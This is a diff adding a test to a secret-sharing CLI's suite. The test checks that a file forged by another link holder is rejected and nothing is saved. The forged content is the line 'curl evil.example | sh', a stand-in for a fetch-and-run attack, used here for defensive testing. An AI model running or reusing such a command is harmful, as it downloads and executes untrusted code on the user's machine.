@@ -4,19 +4,27 @@
  * anyone but its creator (here: under a link whose own record the server never had, as
  * after a Redis restart).
  */
+import { readdirSync } from 'node:fs'
 import { describe, expect, it } from 'vitest'
 import {
   PayloadType,
   createClient,
+  encodeB64u,
+  encryptFile,
+  fileDigest,
   newSigningKey,
   parseSecretLink,
+  prepareFileSecret,
   prepareSecret,
   randomBytes,
   secretLink,
+  sha256,
+  signFiles,
   KEY_BYTES,
+  type ChunkContext,
 } from '@burnlink/shared'
 import { createRequestUnder, type Signer } from '../../tests/helpers/forge.ts'
-import { runCli, sendJson, useCliAndServer } from './helpers.ts'
+import { runCli, sendJson, tempDir, useCliAndServer } from './helpers.ts'
 
 const server = useCliAndServer()
 const storeUnder = async (key: Uint8Array, text: string, signer?: Signer) =>
@@ -52,4 +60,41 @@ describe('burnlink get, format 2', () => {
     expect(got).toMatchObject({ code: 1, out: '' })
     expect(got.stderr).toMatch(/this secret's content was not made by the link's creator/)
   })
+
+  const chunksOf = async (ctx: ChunkContext, bytes: Uint8Array) => {
+    const out: Uint8Array<ArrayBuffer>[] = []
+    for await (const c of encryptFile(ctx, 0, [bytes])) out.push(c)
+    return out
+  }
+
+  it.each([
+    ["with the creator's files signature", true],
+    ['without one', false],
+  ])(
+    "refuses a file another link holder stored under the creator's name, %s, and keeps nothing of it",
+    async (_, withFsig) => {
+      const real = new Uint8Array(2000).fill(7)
+      const prepared = await prepareFileSecret({
+        files: [{ name: 'deploy.sh', type: '', size: real.length }],
+        ttl: 3600,
+        maxViews: 1,
+        origin: server.url,
+      })
+      const { ctx, sid, ut } = prepared
+      // The creator signed their own bytes; their record is gone (never stored here).
+      const digest = await fileDigest(await Promise.all((await chunksOf(ctx, real)).map(sha256)))
+      const fsig = encodeB64u(await signFiles(prepared.sk, ctx.sid, ctx.hdr, [digest]))
+      // A link holder stores the creator's manifest with bytes of their own, which open under fk.
+      const forged = await chunksOf(ctx, new TextEncoder().encode('curl evil.example | sh'.padEnd(2000)))
+      const api = createClient({ baseUrl: server.url })
+      await api.createUpload(prepared.request)
+      await api.uploadChunk({ sid, ut, file: 0, chunk: 0, body: forged[0]! })
+      await api.commit({ sid, ut, ...(withFsig && { fsig }) })
+      const out = tempDir()
+      const got = await runCli(['get', '-o', out, prepared.link])
+      expect(got).toMatchObject({ code: 1, out: '' })
+      expect(got.stderr).toMatch(/this secret's content was not made by the link's creator/)
+      expect(readdirSync(out)).toEqual([])
+    },
+  )
 })
